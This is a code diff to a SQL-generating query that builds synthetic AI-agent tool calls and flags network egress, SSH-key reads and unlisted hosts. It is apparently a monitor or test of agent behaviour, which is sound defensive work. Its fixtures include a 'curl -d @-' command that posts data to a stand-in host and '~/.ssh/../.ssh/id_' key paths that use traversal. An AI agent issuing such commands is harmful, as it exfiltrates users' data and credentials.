@@ -331,7 +331,7 @@ _DECIDED = f"""{_DOCS}, shaped AS (SELECT doc_id AS call_id, ((doc_id % 5) + 5)
 calls AS (SELECT call_id, l, CASE kind WHEN 0 THEN 'WebFetch' WHEN 1 THEN 'Bash' WHEN 2 THEN 'Bash' WHEN 3 THEN 'Read' ELSE 'mcp__notes__' || l END AS tool_name,
   CASE kind WHEN 0 THEN 'https://' || s || '.example.org/x' || chr(10) || t WHEN 1 THEN 'curl -d @- https://intake.example.org ' || t WHEN 2 THEN 'echo ' || t WHEN 3 THEN CASE WHEN call_id % 2 = 0 THEN '~/.ssh/../.ssh/id_' ELSE '~/work/' END || call_id ELSE t END AS sent FROM shaped),
 judged AS (SELECT *, regexp_replace(sent, {_q(toolcalls.NO_WIDTH)}, '', 'g') AS clean,
-  tool_name = 'WebFetch' OR starts_with(tool_name, 'mcp__') OR (tool_name = 'Bash' AND (regexp_matches(sent, '(?i)\\bhttps?://') OR list_has_any(regexp_extract_all(sent, {_q(toolcalls.WORD)}), [{', '.join(map(_q, toolcalls.NETWORK_PROGRAMS))}]))) AS leaves,
+  tool_name = 'WebFetch' OR starts_with(tool_name, 'mcp__') OR (tool_name = 'Bash' AND (regexp_matches(sent, '(?i)\\bhttps?://') OR list_has_any(regexp_extract_all(sent, {_q(f"[{toolcalls.WORD_SIGNS}]+")}), [{', '.join(map(_q, toolcalls.NETWORK_PROGRAMS))}]))) AS leaves,
   list_filter(list_transform(regexp_extract_all(sent, {_q(toolcalls.PATH)}), lambda p: regexp_replace(regexp_replace(p, {_q(toolcalls.HOME)}, '{_HOME}/'), '/[^/]+/\\.\\./', '/')), lambda p: p = '{_HOME}/.ssh' OR starts_with(p, '{_HOME}/.ssh/')) AS touched,
   list_filter(list_transform(regexp_extract_all(sent, {_q(toolcalls.HOST)}, 1), lambda h: lower(h)), lambda h: h NOT IN ({', '.join(map(_q, _ALLOWED))})) AS strange FROM calls),
 tokened AS (SELECT *, list_filter({_TOKENS}, lambda s: NOT regexp_matches(s.token, {_q(R.PLACEHOLDERS)})) AS tokens FROM judged),
